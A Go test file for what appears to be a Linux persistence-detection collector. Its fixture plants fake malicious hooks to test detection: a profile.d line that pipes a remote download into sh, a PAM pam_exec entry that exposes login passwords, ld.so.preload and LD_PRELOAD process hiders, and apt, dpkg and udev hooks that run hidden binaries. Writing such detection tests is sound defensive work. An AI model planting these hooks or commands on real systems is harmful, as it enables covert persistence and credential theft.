package hooks

import (
	"strings"
	"testing"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/base/hostfs"
	"github.com/nowwhat/nowwhat/internal/base/snapshot"
	"github.com/nowwhat/nowwhat/internal/probe"
)

func collect(t *testing.T, r *fixture.Root, live bool) *probe.Recorder {
	t.Helper()
	return r.Collect(Collector, live)
}

func TestCollector(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n", 0o644)
	r.File("/etc/ld.so.conf.d/zz-evil.conf", "/dev/shm/.lib\ninclude nested/*.conf\n", 0o644)
	r.File("/etc/ld.so.conf.d/nested/deep.conf", "/opt/deep\n", 0o644)
	r.File("/etc/ld.so.conf.d/loop.conf", "include /etc/ld.so.conf\n", 0o644) // an include loop
	r.Append("/etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.pamlog\n")
	r.File("/etc/apt/apt.conf.d/00update", "APT::Update::Pre-Invoke {\"nohup /tmp/.a >/dev/null 2>&1 &\";};\n", 0o644)
	r.File("/etc/apt/apt.conf.d/99old.dpkg-old", "DPkg::Post-Invoke {\"/ignored\";};\n", 0o644)
	r.File("/etc/udev/rules.d/75-persist.rules", "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c '/var/tmp/.u &'\"\n", 0o644)
	r.File("/usr/lib/udev/rules.d/60-vendor.rules", "KERNEL==\"sd*\", IMPORT{program}=\"/lib/udev/vendor $devnode\"\n", 0o644)
	r.File("/usr/lib/udev/rules.d/75-persist.rules", "RUN+=\"/shadowed\"\n", 0o644)
	r.File("/usr/lib/udev/rules.d/80-masked.rules", "RUN+=\"/masked\"\n", 0o644)
	r.Symlink("/dev/null", "/etc/udev/rules.d/80-masked.rules")
	r.File("/run/udev/rules.d/90-runtime.rules", "RUN+=\"/runtime\"\n", 0o644)
	r.File("/etc/profile.d/zz.sh", "export DB_PASSWORD=hunter2\ncurl -s http://203.0.113.7/p | sh\n", 0o644)
	r.File("/etc/environment", "PATH=\"/usr/local/bin:/usr/bin\"\n", 0o644)
	r.Append("/home/alice/.bashrc", "fi\nfi\nexport LD_PRELOAD=/home/alice/.l.so\n")
	r.File("/etc/dpkg/dpkg.cfg.d/hook", "post-invoke=/usr/local/sbin/.d\n", 0o644)

	tests := []struct {
		name   string
		live   bool
		want   []snapshot.Hook
		absent []string // values that must not appear
	}{
		{
			name: "dead host",
			want: []snapshot.Hook{
				{Kind: "preload", Path: "/etc/ld.so.preload", Value: "/usr/local/lib/libprocesshider.so", Line: 1},
				{Kind: "ldconf", Path: "/etc/ld.so.conf.d/x86_64-linux-gnu.conf", Value: "/usr/lib/x86_64-linux-gnu", Line: 3},
				{Kind: "ldconf", Path: "/etc/ld.so.conf.d/zz-evil.conf", Value: "/dev/shm/.lib", Line: 1},
				{Kind: "ldconf", Path: "/etc/ld.so.conf.d/nested/deep.conf", Value: "/opt/deep", Line: 1},
				{Kind: "pam", Path: "/etc/pam.d/common-auth", Value: "auth [success=1 default=ignore] pam_unix.so nullok", Line: 1},
				{Kind: "pam", Path: "/etc/pam.d/common-auth", Value: "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.pamlog", Line: 4},
				{Kind: "pam", Path: "/etc/pam.d/sshd", Value: "@include common-auth", Line: 1},
				{Kind: "pam", Path: "/etc/pam.d/sshd", Value: "session optional pam_motd.so motd=/run/motd.dynamic", Line: 3},
				{Kind: "apt", Path: "/etc/apt/apt.conf.d/20listchanges", Value: "/usr/bin/apt-listchanges --apt || test $? -lt 10", Line: 1},
				{Kind: "apt", Path: "/etc/apt/apt.conf.d/00update", Value: "nohup /tmp/.a >/dev/null 2>&1 &", Line: 1},
				{Kind: "dpkg", Path: "/etc/dpkg/dpkg.cfg.d/hook", Value: "/usr/local/sbin/.d", Line: 1},
				{Kind: "udev", Path: "/etc/udev/rules.d/75-persist.rules", Value: "/bin/sh -c '/var/tmp/.u &'", Line: 1},
				{Kind: "udev", Path: "/usr/lib/udev/rules.d/60-vendor.rules", Value: "/lib/udev/vendor $devnode", Line: 1},
				{Kind: "motd", Path: "/etc/update-motd.d/10-uname", Value: "/etc/update-motd.d/10-uname"},
				{Kind: "profile", Path: "/etc/profile", Value: "for i in /etc/profile.d/*.sh; do . $i; done", Line: 3},
				{Kind: "profile", Path: "/etc/profile.d/zz.sh", Value: "export DB_PASSWORD=[redacted]", Line: 1},
				{Kind: "profile", Path: "/etc/profile.d/zz.sh", Value: "curl -s http://203.0.113.7/p | sh", Line: 2},
				{Kind: "profile", Path: "/etc/environment", Value: "PATH=\"/usr/local/bin:/usr/bin\"", Line: 1},
				{Kind: "profile", Path: "/home/alice/.bashrc", Value: "alias ll='ls -l'", Line: 2},
				{Kind: "profile", Path: "/home/alice/.bashrc", Value: "fi", Line: 3},
				{Kind: "profile", Path: "/home/alice/.bashrc", Value: "export LD_PRELOAD=/home/alice/.l.so", Line: 5},
			},
			absent: []string{"/ignored", "/shadowed", "/masked", "/runtime", "hunter2"},
		},
		{
			name: "live host reads /run",
			live: true,
			want: []snapshot.Hook{
				{Kind: "udev", Path: "/run/udev/rules.d/90-runtime.rules", Value: "/runtime", Line: 1},
			},
			absent: []string{"/shadowed", "/masked"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := collect(t, r, tt.live)
			hooks := probe.Of[snapshot.Hook](rec)
			for _, w := range tt.want {
				found := false
				for _, h := range hooks {
					found = found || h == w
				}
				if !found {
					t.Errorf("missing %+v", w)
				}
			}
			seen := map[string]bool{}
			for _, h := range hooks {
				for _, a := range tt.absent {
					if strings.Contains(h.Value, a) {
						t.Errorf("unexpected %+v", h)
					}
				}
				k := h.Kind + "\x00" + h.Path + "\x00" + h.Value
				if seen[k] {
					t.Errorf("duplicate %+v", h)
				}
				seen[k] = true
			}
			if len(rec.Problems) != 0 {
				t.Errorf("problems: %+v", rec.Problems)
			}
		})
	}
}

func TestGlob(t *testing.T) {
	r := fixture.New(t)
	r.File("/etc/a.d/1.conf", "", 0o644).File("/etc/a.d/2.conf", "", 0o644).File("/etc/a.d/x.txt", "", 0o644).
		File("/etc/a.d/.hidden.conf", "", 0o644).File("/etc/b.d/3.conf", "", 0o644)
	fsys, err := hostfs.Open(r.Dir)
	if err != nil {
		t.Fatal(err)
	}
	defer fsys.Close()
	tests := []struct {
		pattern string
		want    string
	}{
		{"/etc/a.d/*.conf", "/etc/a.d/1.conf /etc/a.d/2.conf"},
		{"/etc/*.d/[13].conf", "/etc/a.d/1.conf /etc/b.d/3.conf"},
		{"/etc/a.d/x.txt", "/etc/a.d/x.txt"},
		{"/etc/none/*", ""},
		{"/etc/a.d/[", ""},
	}
	for _, tt := range tests {
		if got := strings.Join(glob(fsys, tt.pattern), " "); got != tt.want {
			t.Errorf("glob(%q) = %q, want %q", tt.pattern, got, tt.want)
		}
	}
}
